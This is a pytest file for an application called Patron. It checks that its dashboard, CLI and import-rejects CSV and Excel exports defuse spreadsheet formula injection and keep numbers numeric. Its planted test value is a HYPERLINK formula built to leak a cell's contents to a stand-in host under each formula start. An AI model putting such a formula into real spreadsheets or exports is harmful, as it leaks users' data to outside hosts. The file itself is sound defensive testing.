"""Every CSV and Excel file Patron writes, with a text value planted under each of the six formula starts
(``=``, ``+``, ``-``, ``@``, tab, carriage return): no written cell starts a live formula, text is stored as
text, numbers stay numbers. The list of exports is docs/security.md's.

Dashboard downloads: every page's every table, through the one export route, in CSV and Excel. The planted
row is added to the table the page itself built (with its own columns and their kinds), so whatever a page
shows — a customer name, a comment, a theme, a social post, an assistant question — is covered by the same
path. CLI ``--format csv`` outputs and the import rejects file: ``patron metrics`` and the rejects file through
stored and imported data (customer segments, rejected rows); ``patron servqual`` and ``patron feedback drivers``
through the report they print (a real SERVQUAL report, and a drivers report, with the planted texts as group,
item and driver names), since building the data that yields such names is each command's own test.
The page-builder wrapping (the table a page built, plus six planted rows) is what lets one test cover every
tab without a data world per tab; tabs without data here (Loyalty, Customer value, Churn) get one."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.engine import Engine
from typer.testing import CliRunner

from patron.cli import app
from patron.core.db import transaction
from patron.core.models import Workspace
from patron.core.safecells import FORMULA_STARTS, PLAIN_NUMBER
from patron.customers.models import Customer
from patron.dashboard.tables import Cell, DataTable
from patron.feedback import drivers as drivers_service
from patron.feedback.schemas import DriverRead, DriversReport
from patron.importers import import_file
from patron.surveys import service as surveys
from patron.surveys import servqual
from patron.surveys.schemas import ResponseSubmit
from patron.surveys.service import save_survey, templates
from patron.web import dashboard_pages
from tests.dashboard.conftest import Dash, dash, log_in
from tests.factories import make_workspace, write_csv
from tests.web.conftest import client

__all__ = ["client", "dash"]  # fixtures used below

#: One planted text per formula start; the marker tells planted cells from the page's own.
PLANTED = {start: f'{start}HYPERLINK("http://x.invalid/?leak="&A2,"PLANTED")' for start in FORMULA_STARTS}
NUMBERS: dict[str, Cell] = {"int": -7, "score": -12.5, "percent": -12.5, "mean": -1.25, "money": -99.5,
                            "date": date(2026, 1, 2), "month": date(2026, 1, 1), "flag": True}  # fmt: skip
#: Pages whose tables are downloaded (every page the dashboard builds; a page without tables has no export).
PAGES = sorted(dashboard_pages.BUILDERS)
#: The pages the issue names: each must have at least one table to export.
MUST_EXPORT = {"servqual", "drivers", "social", "feedback", "loyalty", "churn", "value", "assistant", "responses",
               "alerts", "overview"}  # fmt: skip


def live(cell: str) -> bool:
    """A written text cell a spreadsheet would evaluate: a formula start that is not a plain signed number."""
    return cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)


def planted_rows(table: DataTable) -> list[list[Cell]]:
    """One row per formula start: text columns get that start's planted text, the others a number or date."""
    return [[text if column.kind == "text" else NUMBERS[column.kind] for column in table.columns]
            for text in PLANTED.values()]  # fmt: skip


def check_csv(text: str, where: str, planted_text: bool = True) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            assert not live(cell), f"{where}: live formula {cell!r}"
    planted = [cell for row in rows for cell in row if "PLANTED" in cell]
    if planted_text:
        assert len(planted) >= len(PLANTED), f"{where}: the planted texts are not all written"
    return rows


def _world(page: str, request: pytest.FixtureRequest, engine: Engine, tmp_path: Path) -> tuple[str, str, str]:
    """(workspace slug, user to log in, query) of a workspace whose ``page`` has tables: the loyalty ledger
    (tests/dashboard/test_loyalty.py), the value and churn scores (test_value_churn.py), else the metrics
    world of the dashboard tests."""
    if page == "loyalty":
        from tests.dashboard.test_loyalty import _viewer, build_ledger
        from tests.loyalty.conftest import make_program

        program = make_program(engine, tmp_path / "loyalty")
        build_ledger(program)
        return program.workspace.slug, _viewer(program), ""
    if page in ("value", "churn"):
        from tests.dashboard.test_value_churn import _build

        scored = _build(engine, tmp_path)
        return scored.workspace.slug, scored.viewer, ""
    world: Dash = request.getfixturevalue("dash")
    return world.slug, world.admin, "period=90d&"


@pytest.fixture
def planting(monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, dict[str, bool]]]:
    """Every page builder wrapped: its tables get the planted rows; records which tables each page built (and
    whether each has a text column to plant into)."""
    built: dict[str, dict[str, bool]] = {}
    for page, builder in list(dashboard_pages.BUILDERS.items()):

        def wrapped(*args: Any, _page: str = page, _builder: Callable[..., Any] = builder) -> Any:
            data = _builder(*args)
            built[_page] = {
                key: any(c.kind == "text" for c in table.columns) for key, table in data.tables.items()
            }
            tables = {key: replace(table, rows=[*table.rows, *planted_rows(table)])
                      for key, table in data.tables.items()}  # fmt: skip
            return replace(data, tables=tables)

        monkeypatch.setitem(dashboard_pages.BUILDERS, page, wrapped)
    yield built


@pytest.mark.parametrize("page", PAGES)
def test_every_dashboard_download_is_inert(
    page: str,
    request: pytest.FixtureRequest,
    engine: Engine,
    tmp_path: Path,
    client: TestClient,
    planting: dict[str, dict[str, bool]],
) -> None:
    slug, user, query = _world(page, request, engine, tmp_path)
    log_in(client, slug, user)
    assert client.get(f"/dashboard/{page}?{query}").status_code == 200
    tables = planting.get(page, {})
    if page in MUST_EXPORT:
        assert tables, f"{page}: no table to export"
    for table, has_text in tables.items():
        url = f"/dashboard/{page}/export?{query}table={table}"
        answer = client.get(url + "&format=csv")
        assert answer.status_code == 200, (url, answer.text[:300])
        rows = check_csv(answer.content.decode("utf-8-sig"), url, has_text)
        sheet = load_workbook(io.BytesIO(client.get(url + "&format=xlsx").content)).active
        assert sheet is not None
        cells = [list(row) for row in sheet.iter_rows()]
        for row in cells:
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", f"{url}: {cell.value!r} is not stored as a string"
                    assert not live(cell.value), f"{url}: live formula {cell.value!r}"
        # the planted rows are the table's last six, in both files
        for csv_row, xlsx_row in zip(rows[-len(PLANTED) :], cells[-len(PLANTED) :], strict=True):
            for label, written, cell in zip(rows[0], csv_row, xlsx_row, strict=True):
                if "PLANTED" in written:
                    assert written.startswith("'") and str(cell.value).startswith("'"), (url, label)
                elif not isinstance(cell.value, (datetime, date)):
                    # numbers stay numbers: a number in the CSV, a numeric cell in Excel
                    assert PLAIN_NUMBER.fullmatch(written), (url, label, written)
                    assert cell.data_type == "n" and isinstance(cell.value, (int, float)), (
                        url,
                        label,
                        cell.value,
                    )


def _customers_with_planted_segments(engine: Engine) -> str:
    """A workspace whose six customers each carry a planted segment and answered the NPS survey."""
    slug = make_workspace(engine).slug
    with transaction(engine) as session:
        workspace_id = session.scalars(select(Workspace.id).where(Workspace.slug == slug)).one()
        save_survey(session, workspace_id=workspace_id, definition=templates()["relationship_nps"])
        for index, text in enumerate(PLANTED.values()):
            session.add(Customer(workspace_id=workspace_id, external_id=f"P{index}", segment=text))
        session.flush()
        for index in range(len(PLANTED)):
            surveys.submit_response(session, workspace_id=workspace_id, submission=ResponseSubmit(
                survey="relationship_nps", customer_id=f"P{index}", answers={"nps": 3 + index}))  # fmt: skip
    return slug


def _drivers_report() -> DriversReport:
    drivers = [DriverRead(key=f"k{index}", kind="negative", theme=None, name=text, importance=-0.0125,
                          importance_low=None, importance_high=None, share_of_r_squared=0.5, johnson=0.01,
                          frequency=0.25, mean_with=-1.5, mean_without=7.0, correlation=-0.3, harmful=True,
                          fix_first=False)
               for index, text in enumerate(PLANTED.values())]  # fmt: skip
    return DriversReport(outcome="nps", rows=40, missing=0, responses=40, r_squared=0.2, r_squared_low=None,
                         r_squared_high=None, outcome_mean=7.0, drivers=drivers, constant=[], left_out=[],
                         bootstrap=0, seed=1, level=0.95, small_sample=False)  # fmt: skip


def _servqual_report(real: servqual.ServqualReport) -> servqual.ServqualReport:
    """The report the workspace gives, its group and item names replaced by the planted texts."""
    groups = []
    for index, text in enumerate(PLANTED.values()):
        group = real.groups[0]
        items = [item.model_copy(update={"name": text, "key": text}) for item in group.items]
        groups.append(group.model_copy(update={"group": text, "items": items, "score": -0.5 - index}))
    return real.model_copy(update={"groups": groups})


CLI_OUTPUTS = ["metrics", "servqual", "drivers", "rejects"]


@pytest.mark.parametrize("output", CLI_OUTPUTS)
def test_every_cli_csv_and_the_rejects_file_are_inert(
    output: str, engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    runner = CliRunner()
    if output == "rejects":
        path = write_csv(tmp_path / "people.csv", ("external_id", "email", "segment"),
                         [(f"R{index}", text, text) for index, text in enumerate(PLANTED.values())])  # fmt: skip
        report = import_file(engine, workspace_slug=make_workspace(engine).slug, kind="customers", path=path,
                             locale="en")  # fmt: skip
        assert report.rejected == len(PLANTED) and report.rejects_file is not None
        written = Path(str(report.rejects_file)).read_text(encoding="utf-8-sig")
        rows = check_csv(written, output)
        assert all(PLAIN_NUMBER.fullmatch(row[0]) for row in rows[1:]), "the line numbers stay numbers"
        return
    slug = _customers_with_planted_segments(engine)
    if output == "metrics":
        result = runner.invoke(app, ["metrics", "nps", "--by", "segment", "--format", "csv", "-w", slug])
        assert result.exit_code == 0, result.output
        rows = check_csv(result.output, output)
        numeric = rows[0].index("n")
        assert len(rows) == 1 + len(PLANTED) and all(row[numeric] == "1" for row in rows[1:])
        return
    if output == "servqual":
        planted_report = _servqual_report(_any_servqual_report(engine))
        monkeypatch.setattr(servqual, "gap_report", lambda *args, **kwargs: planted_report)
        result = runner.invoke(app, ["servqual", "--format", "csv", "-w", slug])
        assert result.exit_code == 0, result.output
        rows = check_csv(result.output, output)
        scores = [row for row in rows if row[1] == "score"]
        assert [row[8] for row in scores] == [str(-0.5 - index) for index in range(len(PLANTED))]
        return
    monkeypatch.setattr(drivers_service, "key_drivers", lambda *args, **kwargs: _drivers_report())
    result = runner.invoke(app, ["feedback", "drivers", "--format", "csv", "-w", slug])
    assert result.exit_code == 0, result.output
    rows = check_csv(result.output, output)
    assert rows[0][:3] == ["driver", "kind", "importance"]
    assert {(row[2], row[9]) for row in rows[1:]} == {("-0.0125", "7.0")}, "numbers stay numbers"


def _any_servqual_report(engine: Engine) -> servqual.ServqualReport:
    """A real SERVQUAL report (tests/surveys/test_servqual.py's world), to plant names into."""
    from tests.surveys.test_servqual import build_world

    workspace = build_world(engine)
    with transaction(engine) as session:
        return servqual.gap_report(
            session, workspace_id=workspace.id, timezone=workspace.timezone, locale="en"
        )
